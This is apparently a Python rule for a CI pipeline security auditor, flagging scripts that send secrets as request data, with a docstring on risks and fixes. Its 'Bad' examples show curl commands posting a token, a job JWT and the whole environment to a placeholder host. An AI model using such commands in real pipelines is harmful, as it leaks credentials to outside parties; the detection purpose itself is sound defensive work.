"""A script sends a secret as data of a request.

## Why it matters
What is sent as data or in an address is kept by proxies, logs of servers and the receiver. A token that belongs there is rare; mostly it
is a test that stayed, or somebody took the secrets away.

## Five whys
1. Why did a foreign server have the token? The job sent it there.
2. Why? A command of the script puts it into a request.
3. Why was that not seen in review? The line looks like any other call.
4. Why could the job read the secret? Every job of the pipeline can.
5. Why was it noticed late? The request succeeds and the job is green.

## Fix now
Find out who added the line and where the data went; change the secret. A token for an API belongs into a header (`Authorization`), read
from a file.

## Workaround
Remove the secret from the job.

## Prevent
Limit secrets to the jobs and branches that need them, and where jobs may connect to.

## Validate
The script has no request with the secret in its data or address.

## Bad
```github
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: curl -X POST --data "${{ secrets.TOKEN }}" https://hooks.example.org/collect # finding
```

```gitlab
build:
  script:
    - curl -X POST --data "$CI_JOB_JWT_V1" https://hooks.example.org/collect # finding
    - env | curl --data-binary @- https://hooks.example.org/collect # finding
```

## Good
```gitlab
build:
  script:
    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" --data "name=$CI_COMMIT_TAG" https://gitlab.example.org/api/v4/releases'
```
"""

from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Severity, rule
from auditor.views.pipeline import KINDS
from auditor.views.pipeline.credentials import Leak, leaks


@rule(
    target=KINDS,
    each=leaks,
    severity=Severity.MEDIUM,
    confidence=Confidence.LIKELY,
    aliases="CKV_GHA_3 CKV_GITLABCI_1 CKV_CIRCLECIPIPELINES_7",
)
def check(leak: Leak) -> Iterator[Fail]:
    if leak.how == "sent":
        yield Fail(leak.where, f"{leak.text} sends a secret as data", "a header that is read from a file")
